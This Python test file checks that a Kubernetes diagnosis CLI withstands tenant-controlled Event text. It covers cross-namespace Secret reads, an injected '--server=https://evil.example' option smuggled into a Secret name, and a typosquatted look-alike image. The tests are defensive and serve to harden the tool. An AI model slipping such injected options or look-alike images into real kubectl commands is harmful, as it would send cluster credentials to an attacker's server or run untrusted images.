"""What a tenant's text can make k8sdoctor do: read a Secret, or put an option or a look-alike image
into a command the operator copies. Through the real CLI against the local API server, counting the
requests the server receives.

Messages are real (tests/analyzers/builders.corpus_message checks each one's cited source); the
namespaces and object names in them are ours.
"""

from __future__ import annotations

import shlex

import pytest

from k8sdoctor.fakeapi import FakeApiServer
from tests.analyzers.builders import corpus_message

#: "Error: couldn't find key VALUE in Secret default/aegis-secret-aegis-workload-demo"
MISSING_KEY = corpus_message("aegis-missing-key-in-secret", "https://github.com/shieldworks/aegis/issues/293", contains="couldn't find key")
#: 'Error: secret "secretpostgresql" not found'
MISSING_SECRET = corpus_message(
    "reportportal-missing-secret", "https://github.com/reportportal/kubernetes/issues/178", contains="not found"
)
#: 'Failed to pull image "ghcr.io/cloudnative-pg/cloudnative-pg:1.20.1": rpc error: code = NotFound ...'
IMAGE_NOT_FOUND = corpus_message("cnpg-ghcr-manifest-not-found", "https://github.com/cloudnative-pg/cloudnative-pg/issues/2265")
EVIL = "--server=https://evil.example"


def namespace(name: str) -> dict:
    return {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name}}


def stuck_pod(
    name: str, ns: str, reason: str, image: str = "localhost:5000/aegis-workload-demo-using-init-container:0.15.6", env=()
) -> dict:
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name, "namespace": ns, "creationTimestamp": "-10m", "uid": f"uid-{ns}-{name}"},
        "spec": {"nodeName": "worker-1", "containers": [{"name": "app", "image": image, "env": list(env)}]},
        "status": {
            "phase": "Pending",
            "containerStatuses": [
                {"name": "app", "image": image, "ready": False, "restartCount": 0, "state": {"waiting": {"reason": reason}}}
            ],
        },
    }


def event(pod: dict, message: str, reason: str = "Failed", n: int = 0) -> dict:
    meta = pod["metadata"]
    return {
        "apiVersion": "v1",
        "kind": "Event",
        "metadata": {"name": f"{meta['name']}.{n}", "namespace": meta["namespace"]},
        "involvedObject": {"kind": "Pod", "namespace": meta["namespace"], "name": meta["name"], "uid": meta["uid"]},
        "type": "Warning",
        "reason": reason,
        "message": message,
        "count": 3,
        "firstTimestamp": "-5m",
        "lastTimestamp": "-1m",
    }


def secret(ns: str, name: str, data: dict) -> dict:
    return {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": name, "namespace": ns}, "type": "Opaque", "data": data}


def commands(payload: dict) -> list[str]:
    items = payload.get("items", [payload])
    return [s["command"] for i in items for f in i["findings"] for s in f["remediation"] if s["command"]]


@pytest.fixture
def server():
    with FakeApiServer() as srv:
        for ns in ("rt", "victim"):
            srv.apply(namespace(ns))
        srv.apply(secret("victim", "topsecret", {"PASSWORD": "aHVudGVyMg==", "API_KEY": "c2VjcmV0"}))
        yield srv


def test_an_event_naming_another_namespaces_secret_reads_nothing(server, run_cli, tmp_path):
    """Issue 17: under -A, this Event made k8sdoctor GET victim/topsecret and print its key names."""
    attacker = stuck_pod("app-0", "rt", "CreateContainerConfigError")
    server.apply(attacker)
    server.apply(stuck_pod("payments-0", "victim", "CreateContainerConfigError"))  # so victim's Secret names are listed
    server.apply(event(attacker, MISSING_KEY.replace("default/aegis-secret-aegis-workload-demo", "victim/topsecret")))
    result = run_cli("diagnose", "pods", "-A", "-o", "json", kubeconfig=server.write_kubeconfig(tmp_path / "kc"))
    assert result.code == 1, result.err
    assert server.requests("GET", "/api/v1/namespaces/victim/secrets/topsecret") == []
    # victim's own pod has its namespace's Secret names listed, metadata only; never one read whole
    assert all(
        r.headers.get("Accept", "").startswith("application/json;as=PartialObjectMetadataList")
        for r in server.requests("GET")
        if "/secrets" in r.path
    )
    assert "API_KEY" not in result.out and "PASSWORD" not in result.out


def test_a_secret_the_pods_own_spec_reads_is_read_for_its_key_names(server, run_cli, tmp_path):
    """The control: the same message about the pod's own Secret, in its namespace, is completed."""
    server.apply(secret("rt", "aegis-secret-aegis-workload-demo", {"SPIFFEID": "c3BpZmZl", "VALUEE": "eA=="}))
    ref = {"name": "V", "valueFrom": {"secretKeyRef": {"name": "aegis-secret-aegis-workload-demo", "key": "VALUE"}}}
    pod = stuck_pod("app-0", "rt", "CreateContainerConfigError", env=[ref])
    server.apply(pod)
    server.apply(event(pod, MISSING_KEY.replace("default/", "rt/")))
    result = run_cli("diagnose", "pods", "-A", "-o", "json", kubeconfig=server.write_kubeconfig(tmp_path / "kc"))
    assert result.code == 1, result.err
    assert len(server.requests("GET", "/api/v1/namespaces/rt/secrets/aegis-secret-aegis-workload-demo")) == 1
    assert "keys: SPIFFEID, VALUEE. Did you mean VALUEE?" in result.out


@pytest.mark.parametrize(
    "message",
    [
        MISSING_KEY.replace("default/aegis-secret-aegis-workload-demo", f"rt/{EVIL}"),
        MISSING_SECRET.replace("secretpostgresql", EVIL),
    ],
    ids=["missing key", "missing secret"],
)
def test_a_captured_name_that_reads_as_an_option_never_enters_a_command(server, run_cli, tmp_path, message):
    """Issue 17: `kubectl -n rt describe Secret --server=https://evil.example` was step 1."""
    pod = stuck_pod("app-0", "rt", "CreateContainerConfigError")
    server.apply(pod)
    server.apply(event(pod, message))
    result = run_cli("diagnose", "pod", "app-0", "-n", "rt", "-o", "json", kubeconfig=server.write_kubeconfig(tmp_path / "kc"))
    assert result.code == 1, result.err
    steps = [s for f in result.json()["findings"] for s in f["remediation"]]
    assert any(s["command"] is None for s in steps), "the step is still offered, without its command"
    for command in commands(result.json()):
        assert "evil.example" not in command, command
        assert not any(word.startswith("--server") for word in shlex.split(command)), command
    assert EVIL in result.out  # the evidence still quotes it (as text)


def test_a_look_alike_image_on_a_node_is_shown_unverified_never_as_set_image(server, run_cli, tmp_path):
    """Issue 17: acme/paymemts:2.3.1, seen only in a node's status.images, became `kubectl set image`."""
    wanted = "ghcr.io/cloudnative-pg/cloudnative-pg:1.20.1"
    server.apply(
        {
            "apiVersion": "v1",
            "kind": "Node",
            "metadata": {"name": "worker-1"},
            "status": {"images": [{"names": ["ghcr.io/cloudnative-pq/cloudnative-pg:1.20.1"], "sizeBytes": 1}]},
        }
    )
    pod = stuck_pod("pg-0", "rt", "ImagePullBackOff", image=wanted)
    server.apply(pod)
    server.apply(event(pod, IMAGE_NOT_FOUND))
    result = run_cli("diagnose", "pod", "pg-0", "-n", "rt", "-o", "json", kubeconfig=server.write_kubeconfig(tmp_path / "kc"))
    assert result.code == 1, result.err
    assert not any("cloudnative-pq" in c for c in commands(result.json()))
    evidence = [e["text"] for f in result.json()["findings"] for e in f["evidence"]]
    assert any("ghcr.io/cloudnative-pq/cloudnative-pg:1.20.1" in e and "unverified" in e for e in evidence), evidence


def test_another_tag_of_the_same_repository_is_still_a_command(server, run_cli, tmp_path):
    server.apply(
        {
            "apiVersion": "v1",
            "kind": "Node",
            "metadata": {"name": "worker-1"},
            "status": {"images": [{"names": ["ghcr.io/cloudnative-pg/cloudnative-pg:1.20.0"], "sizeBytes": 1}]},
        }
    )
    pod = stuck_pod("pg-0", "rt", "ImagePullBackOff", image="ghcr.io/cloudnative-pg/cloudnative-pg:1.20.1")
    pod["metadata"]["ownerReferences"] = []
    server.apply(pod)
    server.apply(event(pod, IMAGE_NOT_FOUND))
    result = run_cli("diagnose", "pod", "pg-0", "-n", "rt", "-o", "json", kubeconfig=server.write_kubeconfig(tmp_path / "kc"))
    assert "kubectl -n rt set image pod/pg-0 app=ghcr.io/cloudnative-pg/cloudnative-pg:1.20.0" in commands(result.json())
